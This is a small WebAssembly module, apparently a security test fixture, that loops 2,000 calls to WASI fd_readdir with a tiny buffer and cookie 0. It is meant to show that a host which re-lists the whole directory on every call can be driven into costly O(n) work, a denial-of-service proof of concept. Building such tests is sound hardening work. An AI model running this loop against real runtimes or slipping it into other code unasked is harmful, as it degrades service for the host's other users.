;; Attack: fd_readdir on the first preopen (descriptor 3) with a 32-byte buffer and
;; cookie 0, 2000 times: if the host lists the whole directory on each call, a directory
;; of 100k entries costs O(n) per call while the guest gets one entry.
(module
  (import "wasi_snapshot_preview1" "fd_readdir"
    (func $fd_readdir (param i32 i32 i32 i64 i32) (result i32)))
  (memory (export "memory") 1)
  (func (export "_start")
    (local $n i32)
    (local.set $n (i32.const 2000))
    (loop $again
      (drop (call $fd_readdir (i32.const 3) (i32.const 64) (i32.const 32) (i64.const 0)
                              (i32.const 16)))
      (local.set $n (i32.sub (local.get $n) (i32.const 1)))
      (br_if $again (i32.gt_s (local.get $n) (i32.const 0))))))
